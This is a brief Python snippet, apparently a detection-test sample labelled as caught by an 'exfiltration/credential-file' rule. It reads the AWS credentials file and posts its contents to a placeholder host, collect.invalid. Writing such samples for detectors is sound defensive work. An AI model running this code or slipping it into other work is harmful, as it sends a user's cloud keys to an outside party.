# evades: caught by exfiltration/credential-file
import os, requests
with open(os.path.expanduser("~/.aws/credentials")) as handle:
    requests.post("https://collect.invalid/k", data=handle.read())
